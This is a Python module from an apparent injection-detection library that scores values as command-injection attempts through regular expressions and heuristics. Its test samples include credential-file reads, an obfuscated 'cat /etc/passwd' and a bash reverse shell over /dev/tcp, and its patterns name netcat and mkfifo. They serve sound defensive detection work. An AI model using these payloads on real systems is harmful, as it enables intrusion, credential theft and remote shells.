"""Command injection: a value that a shell would read as a command of its own.

CWE-78. A command counts when it stands where a shell begins one (the value's start, after `;`, `|`, `&`, a new line,
inside a substitution) and is called like one (options, paths, redirections), or when only a shell writes so
(`$(…)`, here strings, `/dev/tcp`, loops of cmd.exe). Sources: POSIX.1-2017, Shell Command Language; the GNU Bash
manual; Microsoft's command reference.
"""

import re
from base64 import b64encode

from delicti.detect import shell_calls
from delicti.detect.asked import is_manual_line, is_question
from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, WEAK, Context, Place, Verdict, whole
from delicti.detect.shell_marks import PROSE, only_shells, quoted_inline, runs_more, windows
from delicti.detect.shell_words import BRIEF, CLIENTS, ENGLISH, FILTERS, NOUNS, PLAIN, TOOLS, known, plain
from delicti.detect.written import is_letter, is_password, unfenced

CLASS, TECHNIQUE, WEAKNESS = "rce", "T1059", "CWE-78"
CONTEXTS = ANYWHERE
# Tries so short that their base64 is no text to be sure of: known as they are.
_SHAPES = (
    ";{}",
    "|{}",
    "||{}",
    "&{}",
    "&&{}",
    "$({})",
    "`{}`",
    "\n{}",
    ";{};",
    "a;{};",
    "a;{}",
    "x||{}",
    "|{}|",
    "1;{}",
)
_TRIES = {
    b64encode(shape.format(name).encode()).decode(): shape.format(name)
    for name in ("id", "ls", "env", "pwd", "whoami", "dir", "uname")
    for shape in (*_SHAPES, "1|{}", "; {}", "| {}")
    if len(shape) + len(name) < 11
}
_NAMES = "(?:" + "|".join(sorted(re.escape(word) for word in PLAIN | ENGLISH)) + ")"
ANCHORS = (
    rf"(?:[;|`\n\r&]|\$\(|[<>]\()[\s@(){{}}'\"]*(?:[\w./\\~-]*[/\\])?{_NAMES}\b",
    rf"^[\s(@!+]*(?:[\w./\\~-]*[/\\])?{_NAMES}(?:\.exe)?[\s<>|;&$`+]",
    rf"^\s*['\"]{_NAMES}['\"]",
    r"\$\(|\$\{|\$\[|[<>]\(|`[^`]{1,80}`",
    whole("|".join(sorted(re.escape(word) for word in PLAIN))),
    whole("|".join(sorted(re.sub("=+$", lambda m: f"(?:{m[0]})?", re.escape(text)) for text in _TRIES))),
    r"<<<|``|\$\{?shell|>\s*&|>\s*/|/dev/(?:tcp|udp)",
    r"(?:usr/(?:local/)?|[\s'\"(;|&`=,\x1e\x1f]/|^\.{0,2}/?)s?bin/",
    r"(?:^|[&|;\s\"(])(?:if|for)\s.{1,80}(?:==|%|\b(?:equ|neq|lss|leq|gtr|geq|exist|errorlevel|defined|do)\b)",
    r"(?:system|exec|popen|passthru|spawn|proc_open|wscript\.shell)\s*[('\"]|qx\{|@\{\s*\[",
    r"\(\s{0,4}\)\s{0,4}\{",
    r"/\?{2}|/\?\w\?|/\w{1,6}[?*]+[/\s]|/\w*[\[*]|\{\w*,|[a-z]\[[a-z]\]",
    r"[\w/]['\"\\$^][\w'\"\\$@*?!(-]|['\"]{2}\w|[\w/]\\\w",
    r"^[~!][-+\d!]",
    r"[;&\s]\s*\$[a-z_@*?!]|=[^;&]{1,40}[;&].{1,200}\$",
    r"%[a-z]{3,20}%",
    r"alias\s",
    r"\bnc\s|mkfifo",
    r"[;|&]\s*(?:\.\s+)?(?:\.{1,2}/|/(?:tmp|usr|var|opt|home|dev|root)/|\$\d)",
    r"[;|&]\s*[\w.-]{1,40}\.(?:exe|bat|cmd|ps1|vbs|sh)\b",
    r"%\w{2,30}:~",
    r";\s*(?:do|then)\s|\$\{?ifs\b|>&[12]|>\s*/dev/null|\|\s*'[^']{1,120}'!",
    *shell_calls.ANCHORS,
)
HITS = (
    ";id",
    "127.0.0.1; cat /etc/passwd",
    "| whoami",
    "$(sleep 5)",
    "`uname -a`",
    "a;ls${IFS}-la",
    "& ping -n 10 127.0.0.1 &",
    "cat /etc/passwd",
    "w'h'oami;c''at /et''c/passwd",
    "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
    "/bin/cat /etc/shadow",
    "|dir c:\\",
)
LOOKALIKES = (
    "AT&T",
    "salt & pepper; cat food",
    "find your date",
    "R&D | research",
    "make time for sleep",
    "$5 (about 4 euro)",
    "price > 5 && price < 10",
    "net income; top line",
    "Tom; who is he",
    "a|b|c",
    "use `code` here",
    "echo park",
)

_START = re.compile(
    r"(?P<mark>;|\|\|?|&&?|\n|\r|`|\$\(|[<>]\(|\$\{`)[\s@(){}'\"]*(?:\$[a-z_@*!?]\w{0,10}\s+){0,3}(?P<rest>[^\s].*)",
    re.DOTALL | re.IGNORECASE,
)
_WORD = re.compile(r"[^\s;|&<>()`'\"{}]+")
_FIRST = re.compile(r"^[\s'\"(@!+]*(?P<word>[\w./\\~?*\[\]:$-]+)(?P<after>.{0,400})", re.DOTALL)
_ARGUED = re.compile(
    (
        r"^['\"]?(?:\s+|<+|>+|/(?=[a-z?]\b))(?:-{1,2}\w|/(?:[\w?*\[\]/]|\s|$)|[\w-]+(?:\.[\w-]+)+\b|(?:user|users|"
        r"view|localgroup|group|share|accounts|start|stop|use)\s*(?:$|[&|;/])|\.{1,2}/|~/|\$|[<>|;&]|[a-z]:(?:[\\/]|"
        r"\s*$)|%\w*%?|https?:|\d{1,3}(?:\.\d{1,3}){3}|[\w./*-]+\.(?:sh|py|php|txt|log|exe|ps1|conf|pl|zst|gz)\b|\*|"
        r"\d+\s*(?:$|[;|&#])|'[^']+'|\"[^\"]+\"|[$(])"
    ),
    re.IGNORECASE,
)
_STANDS = re.compile(r"^['\"`)]?\s*(?:$|[;|&#)`\n]|\}|[<>]{1,2}(?!\s)|\s[<>]{1,2}\s*[/.&$\w])")
_GRAVE = re.compile(
    r"%(?:windir|systemroot)%|/(?:etc|proc|root|dev/tcp|var/log)/|c:[\\/]+windows|\.ssh/|/bin/\w*sh\b", re.IGNORECASE
)
_NAMED = re.compile(
    r"^(?:cmd|command|exec|execute|shell|run|system|ping|code|args?|process|daemon|cli)$", re.IGNORECASE
)
_TALKED = re.compile(r"(?:^|\s)[a-z]{2,}(?:\s|$)", re.IGNORECASE)


def judge(value: str, context: Context) -> Verdict | None:
    """The strongest reading as a command line, once as sent and once as a shell would see it."""
    tried = _TRIES.get(value + "=" * (-len(value) % 4)) if context.name and context.place is not Place.NAME else None
    if tried is not None:
        return Verdict(POSSIBLE, tried, "Behind its base64, a shell would run the command.")
    value = unfenced(value)
    if context.place is Place.BODY and _PROGRAM.fullmatch(value) and _OF_FILES.search(context.name):
        return None
    if context.structured or _is_list(value):
        return None  # its parts are judged on their own
    if context.place in _ASKED and _is_asked(value, context):
        return None
    best = _read(value, context, hidden=False)
    if (
        best is not None
        and STRONG > best.confidence >= WEAK
        and _NAMED.match(context.name)
        and known(value.split(maxsplit=1)[0].strip("'\"")) in PLAIN
        and context.place is not Place.NAME
    ):
        best = best._replace(confidence=PROBABLE, why=f"{best.why} The parameter's name says that it is run.")
    if (
        context.place in (Place.AGENT, Place.REFERRER)
        and not context.name
        and (best is None or best.confidence < POSSIBLE)
    ):
        best = _stray(value) or best
    seen = plain(value)
    if "```" not in value and seen != value and (best is None or best.confidence < STRONG):
        if (
            len(seen) > 2
            and len(re.findall(r"['\"^]|\\(?=\w)|\$[@*!]", value)) > 1
            and seen.strip().lower() in PLAIN - NOUNS
        ):
            return Verdict(PROBABLE, value[:300], _why(seen.strip().lower()))
        other = _read(seen, context, hidden=True)
        if other is not None and (best is None or other.confidence > best.confidence):
            return None if other.confidence <= PROBABLE and is_password(context.name, value) else other
    return None if best is not None and best.confidence <= PROBABLE and is_password(context.name, value) else best


_ASKED = frozenset({Place.VALUE, Place.BODY, Place.REFERRER})


def _is_asked(value: str, context: Context) -> bool:
    return not _GRAVE.search(value) and (is_manual_line(context.name, value) or is_question(value))


def _read(value: str, context: Context, *, hidden: bool) -> Verdict | None:
    best: Verdict | None = None
    for reading in (only_shells, _separated, _first, windows, _called, runs_more):
        found = reading(value, context, hidden)
        if found is not None and (best is None or found.confidence > best.confidence):
            best = found
            if best.confidence >= CERTAIN:
                break
    return best


def _why(name: str) -> str:
    return f"A shell would run the command {name}."


def _separated(value: str, context: Context, hidden: bool) -> Verdict | None:
    best: Verdict | None = None
    at = 0
    for _ in range(12):
        match = _START.search(value, at)
        if match is None:
            break
        at = match.start("rest")
        mark = match["mark"]
        rest = match["rest"]
        word = _WORD.match(rest)
        if word is None:
            at += 1
            continue
        name = known(word[0].rstrip(",.:")) if word[0].rstrip(".,:") == word[0] else None
        if name is None or (name not in ENGLISH and word[0].isupper() and len(name) < 5):
            continue  # the short name of a thing, as GCC or PHP
        after = rest[word.end() :]
        if _is_told(mark, name, word[0], after, value[: match.start()], context):
            continue
        sure = _sure(name, word[0], after, mark, value[: match.start()], hidden, context)
        if sure and (best is None or sure > best.confidence):
            if sure >= PROBABLE and _GRAVE.search(after):
                sure = CERTAIN
            best = Verdict(sure, value[match.start() :][:300], _why(name))
    return best


_PROGRAM = re.compile(r"/(?:usr/(?:local/)?)?bin/(?:python|node|ruby|perl|php|java|bash|zsh|sh)[\d.]*")
_OF_FILES = re.compile(r"path|file|bin|interpreter|program|image|exe", re.IGNORECASE)
_ENTITY = re.compile(r"&(?:amp|lt|gt|quot|apos|nbsp|hellip|mdash|ndash|rsquo|lsquo|#\d{2,5})$", re.IGNORECASE)
_PROGRAMMED = re.compile(r"^\s*\$\w+ = ")  # no shell allows blanks there
_SAID = re.compile(r"^[a-z]+(?: [a-z]+)*\s*$")
_MARKUP = re.compile(r"<(p|li|td|h\d|b|i|span|div|strong|em)\b[^<>]*>[^<>;|`$]*</\1>", re.IGNORECASE)
_WORDS = re.compile(
    r"(?: (?:is|are|was|a|an|the|my|your|and|or|in|of|to|for|from|with|not|[a-z]{4,}))* [a-z]{3,}[.!?]?"
)
_PAIR = re.compile(
    r"(?:cat|time|test|head|tail|more|less|sort|find|host|who|man|top|date|at|watch|make|last) [&|] [a-z]{3,12}"
)
_LIST = re.compile(r"[a-z][\w-]*(?:(?:;[a-z][\w-]*){2,}|(?:\|[a-z][\w-]*){2,})", re.IGNORECASE)


def _is_list(value: str) -> bool:
    """Whether the value is a list of names, as of columns or tags, most of which are no commands."""
    if (rows := value.split("\n")) and len(rows) > 2 and rows[0].count(";") > 1:  # a table
        return len({row.count(";") for row in rows if row.strip()}) == 1
    if (pair := _PAIR.fullmatch(value)) and known(value.rpartition(" ")[2]) not in PLAIN:
        return bool(pair)
    if not _LIST.fullmatch(value):
        return False
    names = [known(word) for word in re.split(r"[;|]", value)]
    plain_ones = sum(name in PLAIN for name in names)
    return TOOLS.issuperset(name or "" for name in names) or (len(names) > 3 and plain_ones * 2 <= len(names))


def _is_text(mark: str, after: str, before: str) -> bool:
    """Whether the sign belongs to markup, to a program in another language, or to a sentence that goes on."""
    if mark == "&":
        if _MARKUP.match(before + mark + after):
            return True
    elif mark == ";" and (_ENTITY.search(before) or _PROGRAMMED.search(before)):
        return True
    return mark in ("&", ";", "|") and bool(_WORDS.fullmatch(after) and _SAID.match(before))


def _is_told(mark: str, name: str, word: str, after: str, before: str, context: Context) -> bool:
    """Whether the sign before a command's name separates nothing: in letters, lists of calls, programs and queries."""
    if _is_text(mark, after, before):
        return True
    if name in ("return", "exit") and re.match(r"[^;{}\n]{0,40};\s*\}", after):
        return True  # the end of a function
    if name in ("for", "if", "while") and re.match(r"\s*\((?!\()[^\n]*\{", after):
        return True
    if mark == "&&" and name in TOOLS and TOOLS.issuperset(before.lower().split()[:1]):
        return True  # a line of a manual
    if name == "exit" and re.search(r"[a-z]{4,} \(?[a-z]{4,}.*[a-z]", before):
        return True  # how a program ended
    if name == "apt" and re.match(r"\.?\s*#?\d", after):
        return True  # an address
    if name == "gzip" and context.place is Place.HEADER and context.name.lower() in ("if-none-match", "if-match"):
        return True
    line = re.split(r"[\r\n]", after, maxsplit=1)[0]
    if mark == "|" and name in FILTERS:
        first = before.split()[:1]
        return len(before.split()) > 1 and known(first[0]) not in PLAIN and not re.search(r"/|\.\w|[$`]", line)
    if mark not in ("\n", "\r"):
        return False
    if (name == "at" and line[:1].isspace()) or (name == "file" and '", line ' in line):
        return True  # a call that led to an error
    if name in ENGLISH and name not in PLAIN and (word[0].isupper() or before.startswith("<?")):
        return True
    return is_letter(before) and "/" not in word and (name in ENGLISH or not _GRAVE.search(line))


def _sure(name: str, word: str, after: str, mark: str, before: str, hidden: bool, context: Context) -> float:  # noqa: C901
    if context.place is Place.REFERRER and mark == "&" and "?" in before:
        return 0.0
    if context.place is Place.AGENT and mark == ";" and before.count("(") > before.count(")") and "/" not in word:
        return 0.0
    everyday = name in ENGLISH and name not in PLAIN
    stands = _STANDS.match(after) is not None
    argued = _ARGUED.match(after) is not None and not (everyday and re.match(r"\s*[|&;]", after))
    if ("/" in word and (not everyday or word[0] in "./~")) or word.endswith((".exe",)):
        return CERTAIN
    if mark == "`" and (
        before.endswith("``")
        or (name in TOOLS and "://" not in after)
        or quoted_inline(before, after)
        or re.search(r"\b(?:from|where|select|order by|group by|alter table)\b", before, re.IGNORECASE)
    ):
        return WEAK
    if mark in ("`", "$(", "<(", ">("):
        if mark == "`" and before.strip() and not argued and everyday:
            return WEAK
        return STRONG if argued or not everyday or stands else PROBABLE
    if argued:
        return STRONG if not everyday or before == "" or hidden else PROBABLE
    if stands and name in NOUNS and re.search(r"[a-z]{2,}\s+$", before, re.IGNORECASE):
        return WEAK
    if everyday and before == "" and mark in ("&", "|") and name not in BRIEF and _piped(after):
        return WEAK
    short = mark in (";", "|", "||", "&", "&&") and len(after.split()) < 4
    if short and name in BRIEF and re.fullmatch(r"(?=\W|\d|\Z)[\w.:'\")\]}-]{0,40}", before):
        return POSSIBLE
    if stands:
        if everyday:
            return (
                POSSIBLE
                if not before.strip()
                or (
                    re.fullmatch(r"[\w.\-]{0,15}\)?|.*['\")\]}]\s*", before, re.DOTALL)
                    and mark != "|"
                    and not before.isalpha()
                )
                else WEAK
            )
        if mark in ("|", "&", ";") and re.search(r"\w\s*[|&;]\s*\w+\s*[|&;]", before):
            return WEAK
        return STRONG if not before.strip() or mark not in ("|", ";") or not re.search(r" \w+$", before) else PROBABLE
    if hidden and not everyday:
        return PROBABLE
    if not before.strip() and mark != "\n":
        return PROBABLE if not everyday else WEAK
    return (
        WEAK
        if everyday or PROSE.search(before + mark + word + after)
        else POSSIBLE
        if not re.match(r"\s+(?:\d+ )?[a-z]{3,}\b", after)
        else WEAK
    )


def _first(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: C901
    match = _FIRST.match(value)
    if match is None:
        return None
    word, after = match["word"], match["after"]
    if after[:1] == ",":
        return None  # the word goes on
    quoted = value.lstrip()[:1] in "'\"" and re.match(r"['\"]", after) is not None
    if context.place is Place.PATH:
        return None
    name = known(word)
    if name is None:
        return None
    shown = value[:300]
    everyday = name in ENGLISH and name not in PLAIN
    if "/" in word and re.match(r"^[./]*(?:usr/(?:local/)?)?s?bin/", word):
        return Verdict(
            WEAK if re.match(r"(?:\s+[a-z]{3,}){2,}\s*$|\s+(?:vs|or|and|is|not)\s", after) else STRONG,
            shown,
            _why(name),
        )
    if "/" in word or "\\" in word:
        return None
    argued = None if re.match(r"\s+\(", after) else _ARGUED.match(after)
    if argued and not PROSE.search(value):
        strong = re.match(r"['\"]?\s*(?:-|/\w|<|>|\||;|\$|[a-z]:[\\/]|https?:|\.\./)", after, re.IGNORECASE)
        if strong and _GRAVE.search(after):
            return Verdict(CERTAIN, shown, _why(name))
        if everyday:
            return Verdict(
                PROBABLE
                if strong and re.search(r"\s/\w+/|\s-{1,2}\w|\|\s*\w|[a-z]:[\\/]|/dev/", after, re.IGNORECASE)
                else WEAK,
                shown,
                _why(name),
            )
        if (
            _TALKED.search(after)
            and not re.search(r"[;|&$`<>]", after)
            and any(w.isalpha() and known(w) not in PLAIN for w in after.split())
        ):
            return Verdict(WEAK, shown, _why(name))
        return Verdict(PROBABLE if strong else POSSIBLE, shown, _why(name))
    if _STANDS.match(after) and not after.strip("'\"` )"):
        if quoted and not everyday:
            return Verdict(POSSIBLE, shown, _why(name))
        return Verdict(WEAK, shown, _why(name))
    if _STANDS.match(after) and name in PLAIN and len(name) > 1:
        return Verdict(PROBABLE if re.match(r"['\"]?\s*[;|&`]", after) else POSSIBLE, shown, _why(name))
    if hidden and name in PLAIN and not after.startswith("(") and after.strip("'\"` )"):
        return Verdict(PROBABLE, shown, _why(name))
    inner = re.match(r"^\s+(?P<next>[\w./-]+)", after)
    if (
        name in ("time", "nohup", "strace", "sudo", "env", "exec", "xargs", "timeout", "nice", "busybox", "flock")
        and inner
        and (other := known(inner["next"]))
        and other in PLAIN
        and not PROSE.search(value)
        and not re.search(r"\s[a-z]{3,}\s*$", after[inner.end() :])
    ):
        return Verdict(POSSIBLE, shown, _why(other))
    return Verdict(WEAK, shown, _why(name)) if name in PLAIN else None


def _piped(after: str) -> bool:
    """Whether an everyday word goes on with a sign and no argument of its own, as in lists of words."""
    own = re.sub(r"^\s*[|&;].*", "", after, flags=re.DOTALL)
    return after[:1].isspace() and bool(after.strip(" ;|&")) and not _ARGUED.match(own)


def _called(value: str, context: Context, hidden: bool) -> Verdict | None:  # noqa: ARG001
    if context.place is Place.PATH:
        return None
    sure, shown = shell_calls.called_alone(value)
    if sure and _GRAVE.search(shown):
        sure = max(sure, STRONG + 0.02)
    return Verdict(sure, shown, "A shell would run the program with these options.") if sure else None


_MARKS = re.compile(r"['\"]|\\(?=\w)")
_INSIDE = re.compile(r"\w(?:\^|\$[@*!])\w")
_VERSIONED = re.compile(r"\w/\d|\(|://")


def _stray(value: str) -> Verdict | None:
    """A command line in the place of a browser's name or of an address, where nobody writes one by chance."""
    words = value.strip().strip("'\"").split()
    if not words or len(words) > 6 or _VERSIONED.search(value):
        return None
    word = words[0].rpartition("=")[2].strip("'\"")
    name = known(word)
    if name is None or name not in PLAIN or name in CLIENTS or word != word.lower():
        return None
    return Verdict(POSSIBLE, value[:300], f"{_why(name)} No browser has such a name.")
